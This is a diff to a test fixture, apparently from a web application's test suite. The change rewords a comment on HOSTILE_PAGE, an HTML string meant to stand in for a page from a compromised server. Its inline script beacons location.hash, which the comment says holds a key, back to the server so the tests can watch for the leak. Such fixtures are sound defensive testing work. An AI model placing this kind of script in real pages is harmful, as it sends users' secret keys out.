@@ -1,6 +1,6 @@
 /**
- * What a server could send in place of the site one day: a page that gives away its address, key included, as soon
- * as any script of it runs. The tests watch what reaches the server.
+ * A page that a compromised server could send instead of the site. It sends out its address, key included, as
+ * soon as any of its scripts runs. The tests watch what reaches the server.
  */
 export const HOSTILE_PAGE = `<!doctype html>
 <script>navigator.sendBeacon('/inline', location.hash)</script>
